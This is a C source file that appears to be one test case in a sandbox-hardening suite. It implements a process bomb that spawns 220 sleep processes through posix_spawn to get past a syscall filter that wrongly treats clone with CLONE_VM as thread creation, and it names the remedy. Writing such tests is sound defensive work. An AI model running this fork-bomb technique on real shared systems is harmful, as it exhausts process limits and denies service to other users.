// SPDX-License-Identifier: MIT
/*
 * posix-spawn.c - a process bomb by posix_spawn(3).
 *
 * Goal: fill the task budget.
 * Means: glibc makes posix_spawn of clone(CLONE_VM | CLONE_VFORK). A filter that lets clone pass
 * "when it shares memory, because then it is a thread" has looked at the wrong flag.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <signal.h>
#include <spawn.h>

#define TASKS 220

static enum claim run(const struct brief *b)
{
	static char *const argv[] = {"sleep", "5", NULL};
	static char *const envp[] = {NULL};
	pid_t child[TASKS];
	enum claim claim;

	attempting(b);
	for (int i = 0; i < TASKS; i++) {
		errno = posix_spawn(&child[i], "/bin/sleep", NULL, NULL, argv, envp);
		if (!errno)
			continue;
		claim = denied("posix_spawn");
		while (i-- > 0)
			kill(child[i], SIGKILL);
		return claim;
	}
	return hold();
}

const struct attack attack = {
	.effect = "more processes than the budget",
	.means = "posix_spawn(3): clone with CLONE_VM, which only looks like a thread",
	.oracle = "census",
	.id = "FORK-05",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "allow clone only with CLONE_THREAD set; RLIMIT_NPROC",
	.run = run,
};
